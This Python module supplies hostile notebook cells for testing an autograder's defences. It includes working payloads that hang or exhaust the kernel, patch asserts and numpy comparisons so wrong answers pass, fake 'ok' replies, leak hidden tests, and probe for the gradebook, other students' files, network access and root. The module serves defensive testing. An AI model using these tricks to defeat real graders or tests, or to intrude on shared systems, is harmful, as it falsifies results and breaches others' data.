"""Code that hostile notebooks run (see _attacks.py): each function is pasted into a cell,
with its call, so it must be self-contained (imports inside)."""

#: The System V key the shared memory writer and reader agree on (written out in both).
SHM_KEY = 0x5EED0009


def print_hidden_marker():
    """A probe whose code contains nbgrader's hidden-test marker (once, unbalanced)."""
    print("### BEGIN HIDDEN TESTS")


def ignore_sigint_and_wait():
    """Ignore the interrupt the grader sends at the cell timeout, and never return."""
    import signal
    import time

    signal.signal(signal.SIGINT, signal.SIG_IGN)
    while True:
        time.sleep(0.5)


def stop_myself():
    """Stop the kernel (SIGSTOP): it can neither answer nor be interrupted."""
    import os
    import signal

    os.kill(os.getpid(), signal.SIGSTOP)


def long_c_call():
    """A long loop inside C (no bytecode runs, so Python never handles the SIGINT)."""
    sum(range(10**15))


def shm_write():
    """Create a System V segment under SHM_KEY (one student) and leave a message in it."""
    import ctypes

    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    key = 0x5EED0009
    shm_id = libc.shmget(key, 4096, 0o1666)  # IPC_CREAT | rw for everyone
    if shm_id >= 0:
        address = libc.shmat(shm_id, None, 0)
        ctypes.memmove(address, b"answers of the writer", 21)
    print("SHM-WRITE", shm_id)


def shm_read():
    """Look for the writer's segment (a previous student's)."""
    import ctypes

    libc = ctypes.CDLL(None)
    print("SHM-READ", libc.shmget(0x5EED0009, 0, 0o666))


def fill_disk():
    """Write 4 MB blocks into the current folder, HOME and /tmp until refused (or 96 MB)."""
    import os

    block = b"x" * (4 * 2**20)
    written = {}
    for n, where in enumerate((".", os.environ.get("HOME", "."), "/tmp")):
        total = 0
        try:
            for i in range(24):
                with open(os.path.join(where, f"fill{n}-{i}.bin"), "wb") as f:
                    f.write(block)
                total += len(block)
        except OSError:
            pass
        written[where] = total
    print("FILLED", sum(written.values()) // 2**20, "MB")


def print_a_lot():
    """Print just under the per-cell output limit (the grader's default, 200 kB)."""
    print("x" * 190_000)


def fork_and_allocate():
    """Three children of 200 MB each; print their wait statuses."""
    import os
    import time

    children = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            block = bytearray(200 * 2**20)
            block[::4096] = b"x" * len(block[::4096])  # touch every page
            time.sleep(3)
            os._exit(0)
        children.append(pid)
    print([os.waitpid(pid, 0)[1] for pid in children])


# -- issue 10: attacks on the tests themselves (tests/test_verdict_*.py) -------------------------
# Each gave wrong code full marks while the tests ran in the student's kernel; on the verdict
# path each must score what the code honestly earns. Those that define names do so in the
# notebook's namespace (globals() of a function defined in a cell).

def display_ok():
    """Show 'ok' as a result: nbgrader took a test cell's first result as its verdict."""
    import sys

    sys.displayhook("ok")


def compile_asserts_away():
    """Every assert IPython compiles becomes a pass (IPython compiles ASTs, codeop text)."""
    import ast
    import codeop

    class NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.copy_location(ast.Pass(), node)

    original = codeop.Compile.__call__

    def no_asserts(self, source, *args, **kwargs):
        if isinstance(source, str):
            source = source.replace("assert ", "pass  # ")
        else:
            source = ast.fix_missing_locations(NoAsserts().visit(source))
        return original(self, source, *args, **kwargs)

    codeop.Compile.__call__ = no_asserts


def fake_restore_and_allclose():
    """Replace the guard's restore function, then make numpy's comparisons always true."""
    import types

    import numpy as np

    globals()["__grader_restore__"] = lambda nonce: {"nonce": nonce, "fixed": [],
                                                     "threads": []}
    types.ModuleType.__setattr__(np, "allclose", lambda *a, **k: True)
    types.ModuleType.__setattr__(np, "array_equal", lambda *a, **k: True)
    types.ModuleType.__setattr__(np, "isfinite", lambda a: np.ones(np.shape(a), dtype=bool))


def replies_always_ok():
    """Every message the kernel sends says status "ok" (execute_reply included)."""
    import jupyter_client.session as session

    send = session.Session.send

    def always_ok(self, stream, msg_or_type, content=None, *args, **kwargs):
        if isinstance(content, dict) and "status" in content:
            content = dict(content, status="ok")
        if isinstance(msg_or_type, dict) and isinstance(msg_or_type.get("content"), dict):
            msg_or_type["content"]["status"] = "ok"
        return send(self, stream, msg_or_type, content, *args, **kwargs)

    session.Session.send = always_ok


def answers_that_say_yes():
    """Wrong answers whose results answer True to every numpy function, allclose included."""
    import numpy as np

    class Yes(np.ndarray):
        def __array_function__(self, func, types, args, kwargs):
            return True

    def softmax(Z):
        return np.zeros_like(Z).view(Yes)

    def cross_entropy(Z, y):
        return np.zeros(()).view(Yes)

    def softmax_loss_and_grad(W, b, X, y):
        return (np.zeros(()).view(Yes), np.zeros_like(W).view(Yes),
                np.zeros_like(b).view(Yes))

    globals().update(softmax=softmax, cross_entropy=cross_entropy,
                     softmax_loss_and_grad=softmax_loss_and_grad)


def constant_loss_zero_gradient():
    """A loss that never changes and its (consistent) zero gradient: finite differences of the
    student's own loss agree with it, so an in-kernel gradient check passed it."""
    import math

    import numpy as np

    def softmax_loss_and_grad(W, b, X, y):
        return math.log(W.shape[1]), np.zeros_like(W), np.zeros_like(b)

    globals()["softmax_loss_and_grad"] = softmax_loss_and_grad


def overwrite_results():
    """An added cell after the demo: the data and the results an in-kernel test read next are
    replaced by the right answers (here, what mnistlib computes)."""
    import numpy as np

    import mnistlib

    ns = globals()
    ns["X"], ns["y"] = np.zeros_like(ns["X"]), ns["y"] * 0
    ns["P"] = mnistlib.softmax(np.zeros((2, 4)))
    ns["loss"], ns["dW"], ns["db"] = mnistlib.softmax_loss_and_grad(
        np.zeros((784, 10)), np.zeros(10), ns["X"], ns["y"])


def leak_history(hidden_checks):
    """Print everything the kernel ran (base64 of zlib of In), and hunt for the hidden checks
    (their module, and their file at ``hidden_checks``, the path they have for the grader)."""
    import base64
    import zlib

    history = "\n".join(globals()["In"]).encode()
    print("LEAK:" + base64.b64encode(zlib.compress(history)).decode())
    try:
        __import__("grading.checks.softmax")
        print("HIDDEN-IMPORTED")
    except Exception as exc:  # noqa: BLE001 - what stopped it is the evidence
        print("no grading:", type(exc).__name__)
    try:
        with open(hidden_checks, encoding="utf-8") as f:
            print("HIDDEN-READ", f.read())
    except Exception as exc:  # noqa: BLE001
        print("no file:", type(exc).__name__)


def intrude(course):
    """Try to read and write what a submission must not (the course's gradebook, solutions,
    other students' files, the network, root) and print what got through."""
    import glob
    import json
    import os

    report = {}

    def attempt(name, action):
        try:
            result = action()
            report[name] = "SUCCEEDED" + (f": {str(result)[:60]}" if result is not None else "")
        except Exception as exc:
            report[name] = type(exc).__name__

    solution = os.path.join(course, "solutions", "01_softmax", "softmax.ipynb")
    victim = os.path.join(course, "submitted", "victim", "01_softmax", "softmax.ipynb")
    report["uid"] = os.getuid()
    attempt("read gradebook", lambda: open(os.path.join(course, "gradebook.db"), "rb").read(16))
    attempt("list solutions", lambda: os.listdir(os.path.join(course, "solutions")))
    attempt("read hidden tests", lambda: open(solution).read(100))
    attempt("write solutions", lambda: open(solution, "a").write("x"))
    attempt("write other student", lambda: open(victim, "w").write("{}"))
    attempt("list submitted", lambda: os.listdir(os.path.join(course, "submitted")))
    # Every folder outside the system's own trees (Python installations skipped: too many).
    found = []
    for base in glob.glob("/*"):
        if os.path.basename(base) in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin"):
            continue
        for folder, dirs, files in os.walk(base):
            dirs[:] = [d for d in dirs if d not in ("site-packages", "node_modules", ".git")]
            found += [os.path.join(folder, f) for f in files if f == "gradebook.db"]
    report["gradebooks found"] = found
    attempt("network", lambda: __import__("socket").create_connection(("1.1.1.1", 53), timeout=2))
    attempt("setuid root", lambda: os.setuid(0))
    print("INTRUDER REPORT " + json.dumps(report))


def replace_comparisons():
    """Replace numpy's (and math's, and builtins') comparisons by ones that always agree."""
    import builtins
    import math

    import numpy as np

    def always(*args, **kwargs):
        return True

    for name in ("allclose", "array_equal", "isclose"):
        try:
            setattr(np, name, always)
        except AttributeError:
            np.__dict__[name] = always
    np.__dict__["isfinite"] = lambda x, *a, **k: np.ones(np.shape(x), dtype=bool)
    np.testing.__dict__["assert_allclose"] = lambda *args, **kwargs: None
    math.__dict__["isclose"] = always
    math.__dict__["isfinite"] = always
    builtins.__dict__["abs"] = lambda x: 0.0
